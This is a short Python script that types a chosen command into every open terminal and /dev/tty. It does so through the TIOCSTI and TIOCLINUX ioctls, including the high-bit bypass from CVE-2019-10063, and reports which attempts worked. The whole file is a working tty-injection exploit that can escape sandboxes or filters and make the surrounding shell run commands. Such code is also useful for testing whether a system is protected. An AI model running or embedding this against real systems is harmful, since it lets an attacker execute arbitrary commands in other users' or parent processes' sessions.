#!/usr/bin/env python3
"""type.py COMMAND: types the line COMMAND into every terminal that it has open, and /dev/tty.

Tries it by TIOCSTI and TIOCLINUX, plainly and with bits above the 32 that the kernel looks at
(CVE-2019-10063), and prints each time what came of it.
"""

import ctypes
import errno
import os
import platform
import sys

TIOCSTI, TIOCLINUX = 0x5412, 0x541C
PASTE = 3  # of TIOCLINUX: what is selected is typed
HIGH = 1 << 32
IOCTL = 16 if platform.machine() == "x86_64" else 29

syscall = ctypes.CDLL(None, use_errno=True).syscall
syscall.argtypes = [ctypes.c_long] * 4


def try_one(fd, request, byte):
    argument = ctypes.create_string_buffer(bytes([byte]))
    done = syscall(IOCTL, fd, request, ctypes.addressof(argument)) == 0
    return "typed" if done else errno.errorcode[ctypes.get_errno()]


def main():
    fds = [fd for fd in range(3) if os.isatty(fd)]
    try:
        fds.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    results = set()
    for fd in fds:
        for request in (TIOCSTI, TIOCSTI | HIGH):
            results |= {try_one(fd, request, byte) for byte in sys.argv[1].encode() + b"\n"}
        for request in (TIOCLINUX, TIOCLINUX | HIGH):
            results.add(try_one(fd, request, PASTE))
    sys.stderr.write(f"tried on {len(fds)}: {' '.join(sorted(results))}\r\n")


main()
